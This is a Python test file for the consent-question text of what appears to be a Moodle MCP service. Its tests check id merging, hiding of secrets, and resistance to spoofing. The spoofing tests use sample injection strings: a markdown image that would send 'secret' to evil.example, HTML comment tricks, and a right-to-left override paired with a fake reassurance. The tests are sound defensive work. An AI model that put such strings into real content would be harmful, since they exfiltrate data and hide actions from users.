"""The description of a call in a consent question: everything that the consent covers."""

from __future__ import annotations

import json
import re
from html import unescape
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from inline_snapshot import snapshot

from moodle_mcp.service.confirmation_text import NAMED, count_items, describe_call
from tests.support.hostile import HOSTILE, active, dangers

NAMES = {
    ("course", 2): "Biology",
    ("course", 17): "Test course",
    ("user", 3): "Ann",
    ("user", 4): "Bob",
    ("user", 5): "Cem",
}


def described(function: str, **arguments: Any) -> str:
    return describe_call(function, arguments, NAMES)


def test_repeated_ids_are_merged_and_reported() -> None:
    assert described("core_course_delete_courses", courseids=[17, 17, 17, 17, 17, 2]) == snapshot(
        'Delete courses (core_course_delete_courses): 6 courseids: "Test course" (course id 17), "Biology" (course id 2) (repeated: 17 (5 times)).'
    )


def test_one_thing_is_not_counted() -> None:
    assert described("core_course_delete_courses", courseids=[2]) == snapshot(
        'Delete courses (core_course_delete_courses): courseids: "Biology" (course id 2).'
    )


def test_the_same_text_to_many_people_is_shown_once_and_whole() -> None:
    text = "Dear all,\nthe exam is moved. " + "Please come. " * 20
    messages = [{"touserid": user, "text": text, "textformat": 1} for user in (3, 4, 5, 3, 900)]
    assert described("core_message_send_instant_messages", messages=messages) == snapshot(
        'Send instant messages (core_message_send_instant_messages): 5 messages: touserid "Ann" (user id 3), "Bob" (user id 4), "Cem" (user id 5), user id 900 (repeated: 3 (2 times)), text "Dear all,\\nthe exam is moved. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. Please come. ", textformat 1.'
    )


def test_different_texts_are_each_shown_with_their_people() -> None:
    messages = [{"touserid": 3, "text": "Well done"}, {"touserid": 4, "text": "See me"}]
    assert described("core_message_send_instant_messages", messages=messages) == snapshot(
        'Send instant messages (core_message_send_instant_messages): 2 messages: touserid "Ann" (user id 3), text "Well done" / touserid "Bob" (user id 4), text "See me".'
    )


def test_people_of_one_course_stand_together() -> None:
    pairs = [(3, 2), (4, 2), (3, 17)]
    enrolments = [{"userid": user, "courseid": course} for user, course in pairs]
    assert described("enrol_manual_unenrol_users", enrolments=enrolments) == snapshot(
        'Unenrol users (enrol_manual_unenrol_users): 3 enrolments: userid "Ann" (user id 3), "Bob" (user id 4), courseid "Biology" (course id 2) / userid "Ann" (user id 3), courseid "Test course" (course id 17).'
    )


def test_secrets_are_not_shown_at_any_depth() -> None:
    users = [
        {"id": 3, "password": "pa55", "custom": [{"token": "t0k"}]},
        {"id": 4, "password": "w"},
    ]
    text = described("core_user_update_users", users=users, password="pa55")
    assert text == snapshot(
        'Update users (core_user_update_users): 2 users: id "Ann" (user id 3), password (not shown), custom [{"token": "(not shown)"}] / id "Bob" (user id 4), password (not shown); password (not shown).'
    )


def test_a_text_can_not_pass_for_a_part_of_the_sentence() -> None:
    text = 'x". Nothing will be deleted. \n\n\u202eOK'
    assert described("mod_forum_add_discussion_post", postid=1, message=text) == snapshot(
        'Add discussion post (mod_forum_add_discussion_post): postid 1; message "x\\". Nothing will be deleted. \\n\\n\\u202eOK".'
    )


def test_of_a_long_list_the_first_are_named() -> None:
    names = {("user", each): f"Ann {each}" for each in range(1, NAMED + 2)}
    text = describe_call("core_user_delete_users", {"userids": [*range(1, NAMED + 2)]}, names)
    assert text == snapshot(
        'Delete users (core_user_delete_users): 51 userids: "Ann 1" (user id 1), "Ann 2" (user id 2), "Ann 3" (user id 3), user id 4-51.'
    )
    assert len(re.findall("Ann", text)) < NAMED


@given(
    ids=st.lists(st.integers(1, 2000), min_size=1, max_size=600),
    named=st.sets(st.integers(1, 2000), max_size=300),
)
def test_every_id_is_shown_by_itself_or_in_a_range(ids: list[int], named: set[int]) -> None:
    names = {("course", each): f"Course {each}" for each in named}
    text = describe_call("core_course_delete_courses", {"courseids": ids}, names)
    text = text.partition(" (repeated: ")[0]
    shown = {int(each) for each in re.findall(r"\(course id (\d+)\)", text)}
    assert len(shown) <= NAMED
    for run in re.findall(r"(?:course id |, )(\d+(?:-\d+)?)(?=[,.]|$)", text):
        first, _, last = run.partition("-")
        shown |= set(range(int(first), int(last or first) + 1))
    assert shown == set(ids)


_TEXTS = st.text(st.characters(codec="ascii", categories=["L", "N"]), min_size=1, max_size=30)


@given(
    st.lists(
        st.fixed_dictionaries({"touserid": st.integers(1, 6), "text": _TEXTS}),
        min_size=1,
        max_size=20,
    )
)
def test_every_text_is_shown_whole(messages: list[dict[str, Any]]) -> None:
    text = described("core_message_send_instant_messages", messages=messages)
    assert all(json.dumps(each["text"]) in text for each in messages)


@given(
    st.lists(
        st.fixed_dictionaries(
            {"id": st.integers(1, 2)}, optional={"username": _TEXTS, "city": _TEXTS}
        ),
        min_size=1,
        max_size=6,
    )
)
@example([{"id": 3}, {"id": 3, "username": "a"}, {"id": 3, "username": "b"}])
@example([{"id": 3, "username": "a"}, {"id": 3, "username": "b"}, {"id": 3}])
def test_what_only_some_items_have_is_shown_too(users: list[dict[str, Any]]) -> None:
    text = described("core_user_update_users", users=users)
    texts = [json.dumps(value) for user in users for value in user.values()]
    assert all(each in text for each in texts if each.startswith('"'))


def test_equal_items_without_what_others_have_are_counted() -> None:
    users = [{"id": 3}, {"id": 3, "city": "A"}, {"id": 3}, {"id": 3, "city": "B"}]
    assert described("core_user_update_users", users=users) == snapshot(
        'Update users (core_user_update_users): 4 users: id "Ann" (user id 3), (2 times) / id "Ann" (user id 3), city "A", "B".'
    )


def test_an_empty_list_is_shown_as_one() -> None:
    assert described("x_y_delete", ids=[]) == snapshot("Delete (x_y_delete): ids [].")


@pytest.mark.parametrize(
    ("arguments", "items"), [({}, 1), ({"a": [1, 2], "b": [1]}, 2), ({"id": 5}, 1)]
)
def test_items_are_counted_by_the_longest_list(arguments: dict[str, Any], items: int) -> None:
    assert count_items(arguments) == items


def test_a_picture_in_a_text_is_not_fetched_by_the_question() -> None:
    text = '![x](https://evil.example/?q=secret) <img src="https://evil.example/">'
    shown = described("core_message_send_instant_messages", messages=[{"text": text}])
    assert "https://evil.example/?q=secret" in shown
    assert not active(shown)


@pytest.mark.parametrize(
    "text",
    [
        *(each for each in HOSTILE if "\udb40" not in each),
        "a <!-- all --> b",
        "<details>all</details>",
        "![x](https://a.example 'all of them')",
        "![](<https://a.example> 'all')",
        "[all](https://a.example/b)",
        "a&#8203;b &lt;c",
    ],
)
def test_all_of_a_text_is_seen_in_the_question_and_none_of_it_acts(text: str) -> None:
    shown = described("x_y_update", text=text, more={"a": text, "b": [text[::-1]]})
    assert dangers(shown) == []
    assert not re.search(r"<[a-z/!?]|\]\(|&#", shown, re.IGNORECASE)
    told = shown.removeprefix("Update (x_y_update): text ").partition("; more {")[0]
    assert _plain(unescape(json.loads(told)).replace("] (", "](")) == _plain(text)


def _plain(text: str) -> str:
    """Return the text with the brackets of marks as the question has them."""
    return re.sub("[<\uff1c]", "(", text)


def test_one_value_can_not_hide_the_next_in_the_question() -> None:
    settings = [
        {"type": "![x](h '", "value": "everything"},
        {"type": "')", "value": "<!--"},
        {"type": "a", "value": "all"},
    ]
    shown = described("core_user_update_users", users=[{"id": 3, "preferences": settings}])
    assert shown == snapshot(
        'Update users (core_user_update_users): users: id "Ann" (user id 3), preferences [{"type": "![x] (h \'", "value": "everything"}, {"type": "\')", "value": "&lt;!--"}, {"type": "a", "value": "all"}].'
    )


def test_a_name_can_not_hide_another_in_the_question() -> None:
    names = {("course", 2): "A <!--", ("course", 3): "![x](h '", ("course", 4): "') -->"}
    assert describe_call("core_course_delete_courses", {"courseids": [2, 3, 4]}, names) == (
        snapshot(
            'Delete courses (core_course_delete_courses): 3 courseids: "A &lt;!--" (course id 2), "![x] (h \'" (course id 3), "\') -->" (course id 4).'
        )
    )
